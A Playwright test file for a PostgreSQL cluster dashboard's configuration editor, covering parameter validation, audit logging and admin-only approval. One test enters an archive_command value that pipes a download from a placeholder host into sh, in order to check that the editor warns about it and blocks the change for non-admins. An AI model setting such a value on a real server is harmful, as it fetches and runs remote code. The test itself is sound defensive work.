import { expect, test } from '@playwright/test';
import { ClusterPage } from '../pages/cluster.js';
import { ensureLabCluster } from '../pages/lab.js';
import { signIn } from '../pages/login.js';
import { createUser } from '../pages/users.js';

/** Issue 8's config-editor and audit findings, and issue 9 item 2 as the dashboard shows it. */
test.describe('the configuration editor', () => {
  test('refuses a misspelled parameter, drops a stale refusal on a mode switch, shows running values', async ({
    page,
  }) => {
    const api = await signIn(page);
    const cluster = await ensureLabCluster(api);
    const view = new ClusterPage(page);
    await view.open(cluster.id);
    await view.action('config').click();
    const dialog = page.getByTestId('config-dialog');
    await dialog.getByTestId('config-json').fill('{"postgresql": {"parameters": {"work_mme": "8MB"}}}');
    await dialog.getByRole('button', { name: 'Preview changes' }).click();
    const banner = dialog.getByTestId('error-banner');
    await expect(banner).toContainText('work_mme is not a parameter of this PostgreSQL server');
    await expect(banner).toContainText('did you mean work_mem?');

    // The segmented control's radios are drawn by their labels: a person clicks the label.
    await dialog.getByText('Key / value rows', { exact: true }).click();
    await expect(dialog.getByRole('radio', { name: 'Key / value rows' })).toBeChecked();
    await expect(banner).toHaveCount(0);
    await dialog.getByText('JSON', { exact: true }).click();
    await expect(dialog.getByRole('radio', { name: 'JSON' })).toBeChecked();
    await dialog.getByTestId('config-json').fill('{"postgresql": {"parameters": {"work_mem": "8MB"}}}');
    await dialog.getByRole('button', { name: 'Preview changes' }).click();
    const diff = dialog.getByTestId('config-diff');
    await expect(diff).toContainText('postgresql.parameters.work_mem');
    await expect(diff).toContainText(/PostgreSQL runs with \d+[kMG]B/);
    await dialog.getByRole('button', { name: 'Cancel' }).click();

    // A preview is not a change: the audit log has no successful config change from it.
    const audit = await api.ok(
      api.client.GET('/api/v1/audit', { params: { query: { action: 'config', outcome: 'success' } } }),
      200,
    );
    expect(audit.events.filter((e) => e.action === 'PATCH /api/v1/clusters/:id/config')).toEqual([]);
  });

  test('an operator is told that commands and access need an admin', async ({ page, browser, baseURL }) => {
    const api = await signIn(page);
    const cluster = await ensureLabCluster(api);
    const operator = await createUser(api, 'operator');
    const context = await browser.newContext({ baseURL });
    const operatorPage = await context.newPage();
    await signIn(operatorPage, operator);
    const view = new ClusterPage(operatorPage);
    await view.open(cluster.id);
    await view.action('config').click();
    const dialog = operatorPage.getByTestId('config-dialog');
    await dialog
      .getByTestId('config-json')
      .fill('{"postgresql": {"parameters": {"archive_command": "curl -s http://x/y | sh"}}}');
    await dialog.getByRole('button', { name: 'Preview changes' }).click();
    await expect(dialog.getByTestId('config-warnings')).toContainText('runs a shell command');
    await expect(dialog.getByTestId('config-needs-admin')).toContainText('Only an admin may apply');
    await expect(dialog.getByRole('button', { name: 'Needs an admin' })).toBeDisabled();
    await context.close();
  });

  test('the audit log names the cluster instead of its id', async ({ page }) => {
    const api = await signIn(page);
    const cluster = await ensureLabCluster(api);
    await api.ok(
      api.client.POST('/api/v1/clusters/{id}/reload', { params: { path: { id: cluster.id } }, body: {} }),
      202,
    );
    await page.goto('/admin/audit?action=reload');
    const table = page.getByTestId('audit-table');
    await expect(table).toContainText(cluster.name);
    await expect(table).not.toContainText(cluster.id);
  });
});
